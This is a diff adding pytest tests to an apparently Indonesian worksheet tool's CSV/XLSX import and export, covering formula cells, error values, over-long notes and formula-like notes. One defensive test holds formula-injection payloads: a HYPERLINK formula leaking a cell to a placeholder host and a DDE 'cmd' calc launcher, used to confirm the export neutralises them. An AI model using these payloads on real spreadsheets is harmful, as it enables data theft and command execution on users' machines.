@@ -105,6 +105,49 @@ def test_xlsx_edited_with_openpyxl_imports(filled, tmp_path, sk_file):
     assert report.ok, [p.describe() for p in report.problems]
 
 
+def test_a_formula_or_an_error_value_in_an_imported_cell_is_named_by_its_cell(filled, tmp_path):
+    """Issue 15 item 5: a formula's cached value is not what the assessor typed."""
+    path = tmp_path / "ani.xlsx"
+    export(filled, path, "xlsx")
+    wb, ws, header = xlsx_cells(path)
+    col = {h: i + 1 for i, h in enumerate(header)}
+    row_of = {r[0].value: r[0].row for r in ws.iter_rows(min_row=2)}
+    answer = ws.cell(row_of["MP.1.b"], col["jawaban"])
+    answer.value = "=1+1"
+    note = ws.cell(row_of["MP.1.c"], col["catatan"])
+    note.value, note.data_type = "#DIV/0!", "e"
+    wb.save(path)
+    before = filled.answers()
+    with pytest.raises(ValidationError) as err:
+        do_import(filled, path)
+    text = str(err.value)
+    assert f"'Kertas Kerja'!{answer.coordinate}: rumus '=1+1'" in text, text
+    assert f"'Kertas Kerja'!{note.coordinate}" in text and "#DIV/0!" in text, text
+    assert filled.answers() == before
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_notes_that_look_like_formulas_round_trip(filled, tmp_path, fmt):
+    """Exports neutralise formula-like text; import restores it: nothing changes."""
+    notes = {"MP.1.a": '=HYPERLINK("http://x?leak="&A2,"Klik")', "MP.1.b": "+cmd|' /C calc'!A0",
+             "MP.2.a": "@SUM(1)", "SDM.1.a": "-2 dokumen\tkurang"}  # (an XLSX reads a CR back as LF)
+    s = filled.session()
+    for cid, note in notes.items():
+        s.save(cid, filled.answers()[cid][0], note)
+    before = filled.answers()
+    path = tmp_path / f"ani.{fmt}"
+    export(filled, path, fmt)
+    if fmt == "csv":
+        raw = path.read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK" in raw and "'+cmd" in raw and "'@SUM" in raw and "'-2 dokumen" in raw
+    else:
+        wb, ws, header = xlsx_cells(path)
+        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    plan = do_import(filled, path).summary()
+    assert plan["created"] == plan["updated"] == 0, plan
+    assert filled.answers() == before
+
+
 def test_csv_edited_and_semicolon_delimited(filled, tmp_path):
     path = tmp_path / "ani.csv"
     export(filled, path, "csv")
@@ -128,6 +171,18 @@ def write_csv(path, rows):
     with path.open("w", encoding="utf-8", newline="") as f:
         csv.writer(f).writerows(rows)
     return path
+
+
+def test_a_note_over_the_limit_is_named_by_its_row(filled, tmp_path):
+    from pmprb.engine import codes
+
+    before = filled.answers()
+    path = write_csv(tmp_path / "long.csv", _sheet([("MP.1.c", "B", "x" * (codes.MAX_TEXT + 1), "", "")]))
+    with pytest.raises(ValidationError) as err:
+        do_import(filled, path)
+    assert f"catatan terlalu panjang ({codes.MAX_TEXT + 1} karakter, maks. {codes.MAX_TEXT})" in str(err.value)
+    assert "2" in str(err.value)  # the row
+    assert filled.answers() == before
 
 
 def test_bad_rows_are_all_reported_and_nothing_is_written(filled, tmp_path):
@@ -289,7 +344,7 @@ def test_file_problems(filled, tmp_path):
         do_import(filled, txt)
     broken = tmp_path / "broken.xlsx"
     broken.write_bytes(b"not a zip")
-    with pytest.raises(ValidationError, match="tidak dapat dibaca"):
+    with pytest.raises(ValidationError, match="bukan berkas XLSX"):
         do_import(filled, broken)
     nohead = write_csv(tmp_path / "nohead.csv", [["foo", "bar"], ["MP.1.a", "A"]])
     with pytest.raises(ValidationError, match="kolom tidak dikenal 'foo'"):
